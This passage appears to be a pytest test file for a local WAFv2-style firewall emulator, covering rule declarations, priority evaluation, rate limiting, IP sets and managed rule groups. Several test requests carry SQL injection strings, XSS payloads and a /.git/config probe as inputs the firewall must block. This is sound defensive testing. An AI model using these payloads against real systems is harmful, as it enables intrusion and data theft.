"""The local WAF, driven the way the gateway drives it: declarations refused as WAFv2 refuses
them, rules evaluated by priority, rate limits on a virtual clock, and the managed groups
against a table of attacks that must be blocked and everyday requests that must not be."""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Sequence
from urllib.parse import quote, urlencode

import pytest

from sluiceway.core.clock import VirtualClock
from sluiceway.core.errors import DeclarationError
from sluiceway.firewall import (
    DEFAULT_ACTION_RULE,
    MANAGED_RULE_GROUPS,
    Firewall,
    ForwardedIPConfig,
    Rule,
    Statement,
    Verdict,
    WebRequest,
    ip_set,
    managed,
    rate_limit,
    size_limit,
    web_acl,
)

GATEWAY_HOST = "localhost:4566"
CLIENT = "198.51.100.7"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
COMMON = "AWSManagedRulesCommonRuleSet"
BAD_INPUTS = "AWSManagedRulesKnownBadInputsRuleSet"
SQLI = "AWSManagedRulesSQLiRuleSet"
ORDER = {"ClientID": "DemoClient", "QRCode": "vwWT)Np=+6-vGzTiopED"}
ANY_STATEMENT = ip_set(["192.0.2.0/24"])


def request(
    method: str = "GET",
    path: str = "/orders",
    query: str = "",
    *,
    body: bytes | None = b"",
    headers: Sequence[tuple[str, str]] = (),
    client_ip: str = CLIENT,
    user_agent: str | None = BROWSER,
    host: str = GATEWAY_HOST,
) -> WebRequest:
    """A request as the gateway hands it over: raw path and query, lower-case headers."""
    base = [("host", host)]
    if user_agent is not None:
        base.append(("user-agent", user_agent))
    if body:
        base.append(("content-length", str(len(body))))
    return WebRequest(method, path, query, [*base, *headers], client_ip, body)


def json_post(
    document: object,
    path: str = "/orders",
    *,
    headers: Sequence[tuple[str, str]] = (),
    client_ip: str = CLIENT,
) -> WebRequest:
    body = json.dumps(document).encode()
    headers = [("content-type", "application/json"), *headers]
    return request("POST", path, body=body, headers=headers, client_ip=client_ip)


def managed_firewall(clock: VirtualClock, *groups: str, **kwargs: object) -> Firewall:
    rules = [
        Rule(f"g{i}-{name.removeprefix('AWSManagedRules')}", 10 * (i + 1), "block", managed(name))
        for i, name in enumerate(groups)
    ]
    return Firewall(rules, clock=clock, gateway_hosts=[GATEWAY_HOST], **kwargs)  # type: ignore[arg-type]


@pytest.fixture
def waf(clock: VirtualClock) -> Firewall:
    """Common, known bad inputs and SQLi: the groups the orders blueprint deploys."""
    return Firewall(
        [
            Rule("common", 10, "block", managed(COMMON)),
            Rule("bad-inputs", 20, "block", managed(BAD_INPUTS)),
            Rule("sqli", 30, "block", managed(SQLI)),
        ],
        clock=clock,
        gateway_hosts=[GATEWAY_HOST],
    )


# --- declarations -----------------------------------------------------------------------


def rule(statement: Statement, name: str = "r", priority: int = 0, action: str = "block") -> Rule:
    return Rule(name, priority, action, statement)  # type: ignore[arg-type]


INVALID_DECLARATIONS = [
    pytest.param(
        lambda: rule(ANY_STATEMENT, priority=-1),
        ["firewall rule 'r'", "priority=-1", "priority=10"],
        id="negative-priority",
    ),
    pytest.param(
        lambda: rule(ANY_STATEMENT, priority=True),
        ["firewall rule 'r'", "priority=True"],
        id="bool-priority",
    ),
    pytest.param(
        lambda: rule(ANY_STATEMENT, priority=1.5),  # type: ignore[arg-type]
        ["priority=1.5", "whole number"],
        id="float-priority",
    ),
    pytest.param(
        lambda: rule(ANY_STATEMENT, name="per ip!"),
        ["'per ip!'", "letters, digits", "per-ip-limit"],
        id="bad-name",
    ),
    pytest.param(
        lambda: rule(ANY_STATEMENT, name=DEFAULT_ACTION_RULE),
        ["'Default_Action'", "rename"],
        id="default-action-name",
    ),
    pytest.param(
        lambda: rule(ANY_STATEMENT, action="deny"),
        ["action='deny'", "'block', 'allow' or 'count'"],
        id="unknown-action",
    ),
    pytest.param(
        lambda: rule("ip_set", name="x"),  # type: ignore[arg-type]
        ["firewall rule 'x'", "not a firewall statement", "rate_limit()"],
        id="not-a-statement",
    ),
    pytest.param(
        lambda: web_acl(
            [rule(ANY_STATEMENT, "a", priority=10), rule(ANY_STATEMENT, "b", priority=10)]
        ),
        ["firewall rule 'b'", "rule 'a' has priority=10", "its own priority"],
        id="duplicate-priority",
    ),
    pytest.param(
        lambda: web_acl([rule(ANY_STATEMENT, "a", 1), rule(ANY_STATEMENT, "a", 2)]),
        ["firewall rule 'a'", "two rules have this name", "its own name"],
        id="duplicate-name",
    ),
    pytest.param(
        lambda: web_acl([rule(ANY_STATEMENT)], default="count"),
        ["default='count'", "'allow' or 'block'"],
        id="count-default",
    ),
    pytest.param(
        lambda: web_acl(["not a rule"]),  # type: ignore[list-item]
        ["is not a Rule", "Rule(name, priority"],
        id="not-a-rule",
    ),
    pytest.param(
        lambda: rule(rate_limit(9, window=60), name="per-ip"),
        ["firewall rule 'per-ip'", "limit=9", "at least 10"],
        id="rate-below-aws-minimum",
    ),
    pytest.param(
        lambda: rule(rate_limit(2_000_000_001)),
        ["limit=2000000001", "2,000,000,000"],
        id="rate-above-aws-maximum",
    ),
    pytest.param(
        lambda: rule(rate_limit(True)),
        ["limit=True"],
        id="rate-bool-limit",
    ),
    pytest.param(
        lambda: rule(rate_limit(100, window=30), name="burst"),
        ["firewall rule 'burst'", "window=30", "60, 120, 300 or 600"],
        id="rate-window-30",
    ),
    pytest.param(
        lambda: rule(rate_limit(100, window=3600)),
        ["window=3600", "60, 120, 300 or 600"],
        id="rate-window-3600",
    ),
    pytest.param(
        lambda: rule(rate_limit(100, key="cookie")),  # type: ignore[arg-type]
        ["key='cookie'", "('header', 'X-Api-Key')"],
        id="rate-unknown-key",
    ),
    pytest.param(
        lambda: rule(rate_limit(100, key=("header", "x api key"))),
        ["key=('header', 'x api key')", "not a rate-limit key"],
        id="rate-bad-header-name",
    ),
    pytest.param(
        lambda: rule(rate_limit(100, forwarded_ip_config=ForwardedIPConfig())),
        ["forwarded_ip_config needs key='forwarded_ip'"],
        id="rate-forwarded-config-without-forwarded-key",
    ),
    pytest.param(
        lambda: rule(
            rate_limit(
                100,
                key="forwarded_ip",
                forwarded_ip_config=ForwardedIPConfig(position="LAST"),
            )
        ),
        ["first address", "fallback_behavior='NO_MATCH'"],
        id="rate-forwarded-last",
    ),
    pytest.param(
        lambda: rule(rate_limit(100, path_prefix="orders")),
        ["path_prefix='orders'", "start it with '/'"],
        id="rate-prefix-not-a-path",
    ),
    pytest.param(
        lambda: rule(ip_set([]), name="office"),
        ["firewall rule 'office'", "not 0", "203.0.113.0/24"],
        id="ip-set-empty",
    ),
    pytest.param(
        lambda: rule(ip_set(["203.0.113.7"]), name="office"),
        ["firewall rule 'office'", "'203.0.113.7' is not in CIDR notation", "203.0.113.7/32"],
        id="ip-without-prefix",
    ),
    pytest.param(
        lambda: rule(ip_set(["203.0.113.7/24"])),
        ["'203.0.113.7/24' is not a valid CIDR", "did you mean '203.0.113.0/24'"],
        id="ip-host-bits-set",
    ),
    pytest.param(
        lambda: rule(ip_set(["203.0.113.300/32"])),
        ["'203.0.113.300/32' is not a valid CIDR", "not an IPv4 or IPv6 address"],
        id="ip-octet-out-of-range",
    ),
    pytest.param(
        lambda: rule(ip_set(["2001:db8::/129"])),
        ["'2001:db8::/129' is not a valid CIDR"],
        id="ipv6-prefix-too-long",
    ),
    pytest.param(
        lambda: rule(ip_set(["0.0.0.0/0"])),
        ["matches every address", "default action"],
        id="ip-slash-zero",
    ),
    pytest.param(
        lambda: rule(ip_set(["::/0"])),
        ["matches every address"],
        id="ipv6-slash-zero",
    ),
    pytest.param(
        lambda: rule(ip_set(["10.0.0.0/8"], forwarded_ip_config=ForwardedIPConfig("X F F"))),
        ["header_name='X F F'", "X-Forwarded-For"],
        id="ip-forwarded-bad-header",
    ),
    pytest.param(
        lambda: rule(
            ip_set(
                ["10.0.0.0/8"],
                forwarded_ip_config=ForwardedIPConfig(position="MIDDLE"),  # type: ignore[arg-type]
            )
        ),
        ["position='MIDDLE'", "'FIRST', 'LAST' or 'ANY'"],
        id="ip-forwarded-bad-position",
    ),
    pytest.param(
        lambda: rule(size_limit("body", 8_193), name="small-bodies"),
        ["firewall rule 'small-bodies'", "max_bytes=8193", "0 and 8,192", "first 8 KB"],
        id="size-body-over-8kb",
    ),
    pytest.param(
        lambda: rule(size_limit("uri", -1)),
        ["max_bytes=-1", "0 and 21,474,836,480"],
        id="size-negative",
    ),
    pytest.param(
        lambda: rule(size_limit("query", 21_474_836_481)),
        ["max_bytes=21474836481"],
        id="size-over-waf-maximum",
    ),
    pytest.param(
        lambda: rule(size_limit("cookies", 100)),
        ["part='cookies'", "'header:<name>'"],
        id="size-unknown-part",
    ),
    pytest.param(
        lambda: rule(size_limit("header:bad name", 100)),
        ["part='header:bad name'"],
        id="size-bad-header-name",
    ),
    pytest.param(
        lambda: rule(managed("AWSManagedRulesPHPRuleSet"), name="php"),
        ["firewall rule 'php'", "'AWSManagedRulesPHPRuleSet' is not one", COMMON],
        id="managed-unknown-group",
    ),
    pytest.param(
        lambda: rule(managed("AWSManagedRulesAmazonIpReputationList"), name="reputation"),
        ["firewall rule 'reputation'", "threat intelligence", "ip_set("],
        id="managed-ip-reputation-refused",
    ),
    pytest.param(
        lambda: rule(managed(SQLI, excluded_rules=["SQLi_QUERYSTRING"]), name="sqli"),
        ["firewall rule 'sqli'", "has no rule 'SQLi_QUERYSTRING'", "SQLi_QUERYARGUMENTS"],
        id="managed-excluded-unknown-rule",
    ),
    pytest.param(
        lambda: rule(managed(COMMON, excluded_rules="NoUserAgent_Header")),
        ["has no rule 'NoUserAgent_Header'", "NoUserAgent_HEADER"],
        id="managed-excluded-wrong-case",
    ),
    pytest.param(
        lambda: rule(managed(COMMON), action="allow", name="common"),
        ["firewall rule 'common'", "no Allow action", "'count' to only observe"],
        id="managed-allow",
    ),
]


@pytest.mark.parametrize(("declare", "says"), INVALID_DECLARATIONS)
def test_invalid_declaration_names_the_rule_and_the_fix(
    declare: Callable[[], object], says: list[str]
) -> None:
    with pytest.raises(DeclarationError) as raised:
        declare()
    message = str(raised.value)
    assert "Fix: " in message
    for part in says:
        assert part in message


@pytest.mark.parametrize(
    "statement",
    [
        pytest.param(rate_limit(10, window=60), id="rate-aws-minimum"),
        pytest.param(rate_limit(2_000_000_000, window=600), id="rate-aws-maximum"),
        pytest.param(rate_limit(100, key=("header", "X-Api-Key")), id="rate-by-header"),
        pytest.param(rate_limit(100, key="forwarded_ip"), id="rate-by-forwarded-ip"),
        pytest.param(rate_limit(100, path_prefix="/orders"), id="rate-scoped-to-path"),
        pytest.param(ip_set("2001:db8::/32"), id="ipv6-set-from-one-string"),
        pytest.param(ip_set(["203.0.113.7/32", "2001:db8::1/128"]), id="mixed-ip-set"),
        pytest.param(size_limit("body", 8_192), id="size-body-8kb"),
        pytest.param(size_limit("body", 0), id="size-body-empty-only"),
        pytest.param(size_limit("header:X-Api-Key", 64), id="size-one-header"),
        pytest.param(managed(COMMON, excluded_rules="SizeRestrictions_BODY"), id="excluded"),
    ],
)
def test_valid_declaration_is_accepted(statement: Statement) -> None:
    assert rule(statement).statement == statement


def test_web_acl_sorts_rules_by_priority() -> None:
    acl = web_acl([rule(ANY_STATEMENT, "late", 20), rule(ANY_STATEMENT, "early", 3)], "block")
    assert [r.name for r in acl.rules] == ["early", "late"]
    assert acl.default_action == "block"


def test_managed_rule_groups_list_aws_rule_names_in_aws_order() -> None:
    assert list(MANAGED_RULE_GROUPS) == [COMMON, BAD_INPUTS, SQLI]
    assert MANAGED_RULE_GROUPS[COMMON][:2] == ("NoUserAgent_HEADER", "UserAgent_BadBots_HEADER")
    assert MANAGED_RULE_GROUPS[SQLI][0] == "SQLi_QUERYARGUMENTS"
    assert "Log4JRCE_HEADER" in MANAGED_RULE_GROUPS[BAD_INPUTS]


# --- evaluation order and actions -------------------------------------------------------


def test_lowest_priority_number_is_evaluated_first_whatever_the_declaration_order(
    clock: VirtualClock,
) -> None:
    firewall = Firewall(
        [
            Rule("block-net", 20, "block", ip_set(["198.51.100.0/24"])),
            Rule("allow-host", 5, "allow", ip_set(["198.51.100.7/32"])),
        ],
        clock=clock,
    )
    assert firewall.evaluate(request(client_ip="198.51.100.7")) == Verdict("allow", "allow-host")
    assert firewall.evaluate(request(client_ip="198.51.100.8")) == Verdict("block", "block-net")


def test_first_terminating_action_wins_and_later_rules_are_not_evaluated(
    clock: VirtualClock,
) -> None:
    firewall = Firewall(
        [
            Rule("block-net", 0, "block", ip_set(["198.51.100.0/24"])),
            Rule("allow-net", 1, "allow", ip_set(["198.51.100.0/24"])),
            Rule("count-net", 2, "count", ip_set(["198.51.100.0/24"])),
        ],
        clock=clock,
    )
    assert firewall.evaluate(request()).rule == "block-net"
    counters = firewall.counters()
    assert counters["block-net"] == {"allowed": 0, "blocked": 1, "counted": 0}
    assert counters["allow-net"] == {"allowed": 0, "blocked": 0, "counted": 0}
    assert counters["count-net"] == {"allowed": 0, "blocked": 0, "counted": 0}


def test_count_records_the_match_and_evaluation_continues(clock: VirtualClock) -> None:
    firewall = Firewall(
        [
            Rule("watch", 0, "count", ip_set(["198.51.100.0/24"])),
            Rule("also-watch", 1, "count", size_limit("query", 5)),
            Rule("block-long-query", 2, "block", size_limit("query", 10)),
        ],
        clock=clock,
    )
    assert firewall.evaluate(request(query="a=1")) == Verdict("allow", DEFAULT_ACTION_RULE)
    assert firewall.evaluate(request(query="page=2&size=50")) == Verdict(
        "block", "block-long-query"
    )
    counters = firewall.counters()
    assert counters["watch"]["counted"] == 2
    assert counters["also-watch"]["counted"] == 1
    assert counters["block-long-query"]["blocked"] == 1
    assert counters[DEFAULT_ACTION_RULE]["allowed"] == 1


@pytest.mark.parametrize(
    ("default", "expected"),
    [pytest.param("allow", "allow", id="allow"), pytest.param("block", "block", id="block")],
)
def test_default_action_applies_when_no_rule_terminates(
    clock: VirtualClock, default: str, expected: str
) -> None:
    firewall = Firewall(
        [Rule("office", 0, "count", ip_set(["192.0.2.0/24"]))], default, clock=clock
    )
    verdict = firewall.evaluate(request())
    assert verdict == Verdict(expected, DEFAULT_ACTION_RULE)  # type: ignore[arg-type]
    assert firewall.counters()[DEFAULT_ACTION_RULE][f"{expected}ed"] == 1


def test_allow_list_in_front_of_a_default_block(clock: VirtualClock) -> None:
    firewall = Firewall([Rule("office", 0, "allow", ip_set(["203.0.113.0/24"]))], "block")
    assert firewall.evaluate(request(client_ip="203.0.113.9")).action == "allow"
    assert firewall.evaluate(request(client_ip="203.0.114.9")).blocked


def test_an_empty_web_acl_applies_its_default(clock: VirtualClock) -> None:
    firewall = Firewall([], "block", clock=clock)
    assert not firewall.needs_body
    assert firewall.evaluate(request(body=None)) == Verdict("block", DEFAULT_ACTION_RULE)


# --- verdicts and counters --------------------------------------------------------------


def test_block_response_body_is_json_naming_the_rule(waf: Firewall) -> None:
    verdict = waf.evaluate(request(query="id=" + quote("1' OR 1=1--")))
    assert verdict.blocked
    assert verdict.rule == "sqli:SQLi_QUERYARGUMENTS"
    assert verdict.label == "awswaf:managed:aws:sql-database:SQLi_QueryArguments"
    body = json.loads(json.dumps(verdict.body()))
    assert body == {
        "message": "Forbidden: blocked by firewall rule sqli:SQLi_QUERYARGUMENTS",
        "code": "FirewallBlocked",
        "rule": "sqli:SQLi_QUERYARGUMENTS",
    }


def test_an_allowed_request_has_no_block_body(waf: Firewall) -> None:
    verdict = waf.evaluate(request())
    assert not verdict.blocked
    with pytest.raises(ValueError, match="no block response"):
        verdict.body()


def test_counters_per_rule_per_managed_rule_and_default(waf: Firewall) -> None:
    waf.evaluate(request())
    waf.evaluate(request(query="q=" + quote("<script>alert(1)</script>")))
    waf.evaluate(request(query="q=" + quote("<script>alert(1)</script>")))
    waf.evaluate(request(path="/.git/config"))
    waf.evaluate(request(query="id=" + quote("1 UNION SELECT password FROM users")))
    counters = waf.counters()
    assert counters["common"] == {"allowed": 0, "blocked": 2, "counted": 0}
    assert counters["common:CrossSiteScripting_QUERYARGUMENTS"]["blocked"] == 2
    assert counters["bad-inputs"]["blocked"] == 1
    assert counters["bad-inputs:ExploitablePaths_URIPATH"]["blocked"] == 1
    assert counters["sqli"]["blocked"] == 1
    assert counters["sqli:SQLi_QUERYARGUMENTS"]["blocked"] == 1
    assert counters[DEFAULT_ACTION_RULE] == {"allowed": 1, "blocked": 0, "counted": 0}
    # every managed rule has a counter, in evaluation order, and the default comes last
    names = list(counters)
    assert names[0] == "common"
    assert names[-1] == DEFAULT_ACTION_RULE
    assert len(names) == 3 + sum(len(rules) for rules in MANAGED_RULE_GROUPS.values()) + 1


# --- two phases: head first, body only when a rule needs it -----------------------------


def gateway_evaluate(firewall: Firewall, full: WebRequest) -> Verdict:
    """What the gateway does: decide on the head, read the body only if asked to."""
    head = WebRequest(full.method, full.path, full.query, full.headers, full.client_ip)
    verdict = firewall.evaluate_head(head)
    if verdict is not None:
        return verdict
    assert full.body is not None
    return firewall.evaluate_body(head, full.body)


def mixed_rules() -> list[Rule]:
    return [
        Rule("office", 0, "allow", ip_set(["203.0.113.0/24"])),
        Rule("banned", 1, "block", ip_set(["192.0.2.0/24"])),
        Rule("per-ip", 2, "block", rate_limit(10, window=60)),
        Rule("watch-long-uris", 3, "count", size_limit("uri", 20)),
        Rule("common", 10, "block", managed(COMMON, excluded_rules=["NoUserAgent_HEADER"])),
        Rule("after-body", 15, "count", rate_limit(10, window=60, key=("header", "x-api-key"))),
        Rule("sqli", 20, "block", managed(SQLI)),
        Rule("small-bodies", 30, "block", size_limit("body", 2_000)),
    ]


def traffic() -> list[WebRequest]:
    keyed = [("x-api-key", "k-1")]
    return [
        request(),
        request(client_ip="203.0.113.5", query="q=" + quote("' OR 1=1--")),
        request(client_ip="192.0.2.1"),
        json_post(ORDER),
        json_post({"note": "1' UNION SELECT card FROM payments--"}),
        json_post({"note": "<img src=x onerror=alert(1)>"}),
        request("POST", "/orders", body=b"x" * 3_000, headers=keyed),
        request(user_agent=None, headers=keyed),
        request(path="/orders/a-rather-long-order-identifier", headers=keyed),
        *[json_post(ORDER, client_ip="198.51.100.99", headers=keyed) for _ in range(12)],
    ]


def test_evaluate_head_then_body_matches_one_shot_evaluate() -> None:
    one_shot = Firewall(mixed_rules(), clock=VirtualClock(), gateway_hosts=[GATEWAY_HOST])
    two_phase = Firewall(mixed_rules(), clock=VirtualClock(), gateway_hosts=[GATEWAY_HOST])
    verdicts = [one_shot.evaluate(r) for r in traffic()]
    assert [gateway_evaluate(two_phase, r) for r in traffic()] == verdicts
    assert two_phase.counters() == one_shot.counters()
    assert two_phase.tracked_keys() == one_shot.tracked_keys()
    # the traffic exercised every kind of outcome
    assert {v.rule for v in verdicts} >= {
        "office",
        "banned",
        "per-ip",
        "common:CrossSiteScripting_BODY",
        "sqli:SQLi_BODY",
        "small-bodies",
        DEFAULT_ACTION_RULE,
    }
    assert one_shot.counters()["watch-long-uris"]["counted"] == 1
    assert one_shot.counters()["common:NoUserAgent_HEADER"]["counted"] == 1


def test_head_rules_decide_without_reading_the_body(clock: VirtualClock) -> None:
    firewall = Firewall(mixed_rules(), clock=clock)
    assert firewall.needs_body
    assert firewall.evaluate_head(request(client_ip="192.0.2.1", body=None)) == Verdict(
        "block", "banned"
    )
    assert firewall.evaluate_head(request(body=None)) is None


def test_a_firewall_without_body_rules_never_needs_the_body(clock: VirtualClock) -> None:
    firewall = Firewall(
        [
            Rule("per-ip", 0, "block", rate_limit(10, window=60)),
            Rule("q", 1, "block", size_limit("query", 8)),
        ],
        clock=clock,
    )
    assert not firewall.needs_body
    assert firewall.evaluate_head(request(body=None)) == Verdict("allow", DEFAULT_ACTION_RULE)
    assert firewall.evaluate(request(query="page=20&size=5", body=None)).rule == "q"


def test_one_shot_evaluate_refuses_a_request_whose_body_was_not_read(waf: Firewall) -> None:
    with pytest.raises(ValueError, match="read it into the request first"):
        waf.evaluate(request(body=None))


# --- rate limits ------------------------------------------------------------------------


def test_rate_limit_blocks_requests_over_the_limit_per_ip(clock: VirtualClock) -> None:
    firewall = Firewall([Rule("per-ip", 0, "block", rate_limit(10, window=60))], clock=clock)
    verdicts = [firewall.evaluate(request()) for _ in range(12)]
    assert [v.blocked for v in verdicts] == [False] * 10 + [True] * 2
    assert verdicts[-1] == Verdict("block", "per-ip")
    assert not firewall.evaluate(request(client_ip="198.51.100.8")).blocked
    assert firewall.counters()["per-ip"]["blocked"] == 2
    assert firewall.tracked_keys() == {"per-ip": 2}


def test_rate_window_slides_with_the_clock(clock: VirtualClock) -> None:
    firewall = Firewall([Rule("per-ip", 0, "block", rate_limit(10, window=60))], clock=clock)
    for _ in range(6):
        assert not firewall.evaluate(request()).blocked
    clock.advance(30)
    for _ in range(4):
        assert not firewall.evaluate(request()).blocked
    assert firewall.evaluate(request()).blocked  # 11 in the last 60 s
    clock.advance(29.5)  # the first six are 59.5 s old: still inside the window
    assert firewall.evaluate(request()).blocked
    clock.advance(0.5)  # now 60 s old: out (the blocked requests still count)
    assert not firewall.evaluate(request()).blocked
    clock.advance(60)
    for _ in range(10):
        assert not firewall.evaluate(request()).blocked


@pytest.mark.parametrize("window", [60, 120, 300, 600])
def test_every_evaluation_window_forgets_after_its_length(clock: VirtualClock, window: int) -> None:
    firewall = Firewall([Rule("per-ip", 0, "block", rate_limit(10, window=window))], clock=clock)
    for _ in range(10):
        firewall.evaluate(request())
    clock.advance(window - 10)
    assert firewall.evaluate(request()).blocked
    clock.advance(10)  # the first ten left the window; the blocked one has not
    assert not firewall.evaluate(request()).blocked


def test_rate_limit_by_header_counts_each_key_and_skips_requests_without_it(
    clock: VirtualClock,
) -> None:
    statement = rate_limit(10, window=60, key=("header", "X-Api-Key"))
    firewall = Firewall([Rule("per-key", 0, "block", statement)], clock=clock)
    for _ in range(10):
        firewall.evaluate(request(headers=[("x-api-key", "alpha")]))
    assert firewall.evaluate(request(headers=[("x-api-key", "alpha")])).blocked
    # another key from the same address, and requests without a key, are not limited
    assert not firewall.evaluate(request(headers=[("x-api-key", "beta")])).blocked
    assert not any(firewall.evaluate(request()).blocked for _ in range(20))
    assert firewall.tracked_keys() == {"per-key": 2}


def test_rate_limit_by_forwarded_ip_uses_the_first_address(clock: VirtualClock) -> None:
    firewall = Firewall(
        [Rule("per-client", 0, "block", rate_limit(10, window=60, key="forwarded_ip"))],
        clock=clock,
    )

    def via_proxy(forwarded: str) -> WebRequest:
        return request(client_ip="10.0.0.2", headers=[("x-forwarded-for", forwarded)])

    for _ in range(10):
        firewall.evaluate(via_proxy("203.0.113.50, 10.0.0.1"))
    assert firewall.evaluate(via_proxy("203.0.113.50")).blocked
    assert not firewall.evaluate(via_proxy("203.0.113.51, 203.0.113.50")).blocked
    # no header or a garbage one: not counted (NO_MATCH), never limited
    assert not any(firewall.evaluate(via_proxy("unknown")).blocked for _ in range(15))
    assert not any(firewall.evaluate(request(client_ip="10.0.0.2")).blocked for _ in range(15))
    assert firewall.tracked_keys() == {"per-client": 2}


def test_rate_limit_scoped_down_to_a_path_prefix(clock: VirtualClock) -> None:
    statement = rate_limit(10, window=60, path_prefix="/oauth2/token")
    firewall = Firewall([Rule("token-burst", 0, "block", statement)], clock=clock)
    for _ in range(30):
        assert not firewall.evaluate(request(path="/orders")).blocked
    for _ in range(10):
        firewall.evaluate(request("POST", "/oauth2/token"))
    assert firewall.evaluate(request("POST", "/oauth2%2Ftoken")).blocked  # decoded path
    assert not firewall.evaluate(request(path="/orders")).blocked


def test_rate_rule_with_count_action_counts_over_limit_requests_only(clock: VirtualClock) -> None:
    firewall = Firewall([Rule("watch", 0, "count", rate_limit(10, window=60))], clock=clock)
    assert not any(firewall.evaluate(request()).blocked for _ in range(15))
    assert firewall.counters()["watch"]["counted"] == 5
    assert firewall.counters()[DEFAULT_ACTION_RULE]["allowed"] == 15


def test_rate_keys_are_capped_evicting_the_least_recently_seen(clock: VirtualClock) -> None:
    firewall = Firewall(
        [Rule("per-ip", 0, "block", rate_limit(10, window=60))], clock=clock, max_keys_per_rule=3
    )
    for _ in range(10):
        firewall.evaluate(request(client_ip="192.0.2.1"))
    firewall.evaluate(request(client_ip="192.0.2.2"))
    firewall.evaluate(request(client_ip="192.0.2.3"))
    firewall.evaluate(request(client_ip="192.0.2.4"))  # the cap: .1 is the stalest, it goes
    assert firewall.tracked_keys() == {"per-ip": 3}
    assert not firewall.evaluate(request(client_ip="192.0.2.1")).blocked  # counting afresh


def test_seeing_a_key_again_protects_it_from_eviction(clock: VirtualClock) -> None:
    firewall = Firewall(
        [Rule("per-ip", 0, "block", rate_limit(10, window=60))], clock=clock, max_keys_per_rule=2
    )
    for _ in range(10):
        firewall.evaluate(request(client_ip="192.0.2.1"))
    firewall.evaluate(request(client_ip="192.0.2.2"))
    firewall.evaluate(request(client_ip="192.0.2.1"))  # blocked, and now the freshest
    firewall.evaluate(request(client_ip="192.0.2.3"))  # evicts .2
    assert firewall.evaluate(request(client_ip="192.0.2.1")).blocked


def test_idle_rate_keys_are_dropped_once_their_window_has_passed(clock: VirtualClock) -> None:
    firewall = Firewall([Rule("per-ip", 0, "block", rate_limit(10, window=60))], clock=clock)
    for last_octet in range(1, 51):
        firewall.evaluate(request(client_ip=f"192.0.2.{last_octet}"))
    assert firewall.tracked_keys() == {"per-ip": 50}
    clock.advance(61)
    firewall.evaluate(request(client_ip="192.0.2.200"))
    assert firewall.tracked_keys() == {"per-ip": 1}


def test_a_rule_that_terminates_earlier_keeps_requests_from_the_rate_count(
    clock: VirtualClock,
) -> None:
    firewall = Firewall(
        [
            Rule("office", 0, "allow", ip_set(["198.51.100.0/24"])),
            Rule("per-ip", 1, "block", rate_limit(10, window=60)),
        ],
        clock=clock,
    )
    assert not any(firewall.evaluate(request()).blocked for _ in range(50))
    assert firewall.tracked_keys() == {"per-ip": 0}


# --- IP sets ----------------------------------------------------------------------------

IP_SET = ["203.0.113.0/24", "198.51.100.7/32", "2001:db8:abcd::/48", "2001:db8::1/128"]


@pytest.mark.parametrize(
    ("client_ip", "matches"),
    [
        pytest.param("203.0.113.0", True, id="v4-network-address"),
        pytest.param("203.0.113.255", True, id="v4-broadcast"),
        pytest.param("203.0.114.0", False, id="v4-next-network"),
        pytest.param("198.51.100.7", True, id="v4-host"),
        pytest.param("198.51.100.6", False, id="v4-neighbour"),
        pytest.param("::ffff:203.0.113.9", True, id="v4-mapped-v6"),
        pytest.param("2001:db8:abcd:12::5", True, id="v6-in-48"),
        pytest.param("2001:db8:abce::1", False, id="v6-outside-48"),
        pytest.param("2001:db8::1", True, id="v6-host"),
        pytest.param("2001:db8::2", False, id="v6-neighbour"),
        pytest.param("2001:0DB8:0000::0001", True, id="v6-uncompressed-upper-case"),
        pytest.param("", False, id="no-address"),
        pytest.param("not-an-ip", False, id="garbage"),
    ],
)
def test_ip_set_matches_v4_and_v6_cidrs(clock: VirtualClock, client_ip: str, matches: bool) -> None:
    firewall = Firewall([Rule("listed", 0, "block", ip_set(IP_SET))], clock=clock)
    assert firewall.evaluate(request(client_ip=client_ip)).blocked is matches


@pytest.mark.parametrize(
    ("config", "forwarded", "matches"),
    [
        pytest.param(ForwardedIPConfig(), "203.0.113.9, 10.0.0.1", True, id="first"),
        pytest.param(ForwardedIPConfig(), "10.0.0.1, 203.0.113.9", False, id="first-not-listed"),
        pytest.param(ForwardedIPConfig(position="LAST"), "10.0.0.1, 203.0.113.9", True, id="last"),
        pytest.param(
            ForwardedIPConfig(position="ANY"), "10.0.0.1, 203.0.113.9, 10.0.0.2", True, id="any"
        ),
        pytest.param(ForwardedIPConfig(position="ANY"), "10.0.0.1, 10.0.0.2", False, id="none"),
        pytest.param(ForwardedIPConfig(), None, False, id="missing-no-match"),
        pytest.param(ForwardedIPConfig(fallback_behavior="MATCH"), None, True, id="missing-match"),
        pytest.param(
            ForwardedIPConfig(fallback_behavior="MATCH"), "garbage", True, id="invalid-match"
        ),
        pytest.param(ForwardedIPConfig(), "garbage", False, id="invalid-no-match"),
        pytest.param(
            ForwardedIPConfig(header_name="CF-Connecting-IP"), None, False, id="other-header"
        ),
    ],
)
def test_ip_set_reads_the_forwarded_header_when_configured(
    clock: VirtualClock, config: ForwardedIPConfig, forwarded: str | None, matches: bool
) -> None:
    statement = ip_set(["203.0.113.0/24"], forwarded_ip_config=config)
    firewall = Firewall([Rule("listed", 0, "block", statement)], clock=clock)
    headers = [] if forwarded is None else [("x-forwarded-for", forwarded)]
    # the connection's own address is in the set: with a forwarded config it is ignored
    verdict = firewall.evaluate(request(client_ip="203.0.113.1", headers=headers))
    assert verdict.blocked is matches


def test_ip_set_without_forwarded_config_ignores_the_header(clock: VirtualClock) -> None:
    firewall = Firewall([Rule("listed", 0, "block", ip_set(["203.0.113.0/24"]))], clock=clock)
    spoofed = request(client_ip="10.0.0.1", headers=[("x-forwarded-for", "203.0.113.9")])
    assert not firewall.evaluate(spoofed).blocked


def test_a_large_ip_set_matches_exactly(clock: VirtualClock) -> None:
    cidrs = [f"10.{i // 256}.{i % 256}.0/24" for i in range(2_000)]
    firewall = Firewall([Rule("many", 0, "block", ip_set(cidrs))], clock=clock)
    assert firewall.evaluate(request(client_ip="10.7.207.77")).blocked  # the 2,000th
    assert not firewall.evaluate(request(client_ip="10.7.208.77")).blocked  # the 2,001st


# --- size constraints -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("part", "limit", "small", "large"),
    [
        pytest.param(
            "body",
            100,
            request("POST", body=b"x" * 100),
            request("POST", body=b"x" * 101),
            id="body",
        ),
        pytest.param("uri", 10, request(path="/orders/12"), request(path="/orders/123"), id="uri"),
        pytest.param(
            "uri",
            12,
            request(path="/caf%C3%A9/e"),  # 12 bytes as sent, 8 decoded
            request(path="/caf%C3%A9/ab"),
            id="uri-counts-raw-bytes",
        ),
        pytest.param("query", 5, request(query="a=123"), request(query="a=1234"), id="query"),
        pytest.param(
            "headers",
